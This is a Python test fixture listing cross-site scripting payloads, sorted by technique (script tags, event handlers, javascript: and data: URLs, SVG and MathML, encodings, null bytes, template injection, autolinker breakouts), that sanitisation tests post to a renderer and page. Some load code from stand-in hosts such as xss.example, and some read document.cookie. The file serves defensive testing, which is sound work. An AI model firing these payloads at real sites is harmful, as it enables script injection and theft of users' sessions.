"""Hostile inputs the sanitisation tests post: on the renderer, the service and the page."""

XSS_PAYLOADS = [
    # script tags
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>alert(document.cookie)</script>',
    "<![CDATA[<script>alert(1)</script>]]>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<xss id=x tabindex=1 onfocus=alert(1) autofocus></xss>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    # javascript:, data:, vbscript: URLs
    '<a href="javascript:alert(1)">clic</a>',
    "javascript:alert(document.cookie)",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data:text/html,<script>alert(1)</script>",
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<base href="javascript:alert(1)//">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    # entity-encoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    # broken and nested tags, comments
    '<img """><script>alert(1)</script>">',
    "<img src=x onerror=alert(1)//",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<<script>script>alert(1)<</script>/script>",
    # style / expression
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<link rel=stylesheet href="javascript:alert(1)">',
    # iframe, object, embed, meta refresh
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    # template injection
    "{{ request.user.password }}{% debug %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>",
    # bidi override and null bytes
    "\u202e<script>alert(1)</script>",
    "facture\u202egpj.exe <img src=x onerror=alert(1)>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "java\x00script:alert(1)",
    # breaking out through the autolinker
    'http://example.com/"onmouseover="alert(1)',
    "http://example.com/<script>alert(1)</script>",
    "www.example.com/?q=<img src=x onerror=alert(1)>",
    "https://example.com/'><svg/onload=alert(1)>",
    'contact@example.com"onmouseover=alert(1)',
    # inside the markup's own lists
    "- <img src=x onerror=alert(1)>\n- <svg/onload=alert(1)>",
    "1. javascript:alert(1)\n2. <a href=javascript:alert(1)>x</a>",
]
